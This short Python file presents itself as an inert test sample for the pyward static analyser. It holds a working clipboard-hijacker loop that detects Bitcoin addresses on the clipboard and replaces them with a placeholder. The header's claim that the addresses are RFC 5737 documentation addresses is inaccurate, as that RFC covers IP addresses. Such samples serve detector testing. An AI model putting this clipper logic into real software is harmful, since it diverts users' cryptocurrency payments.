# INERT test sample for pyward's static analysis: never run it. Modelled on clipboard hijackers swapping crypto-wallet addresses.
# Documented: https://blog.phylum.io/ (2023 PyPI clipper malware)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import re, time, pyperclip
while True:
    text = pyperclip.paste()
    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', text):
        pyperclip.copy('bc1qinertinertinertinertinertinertinert')
    time.sleep(1)
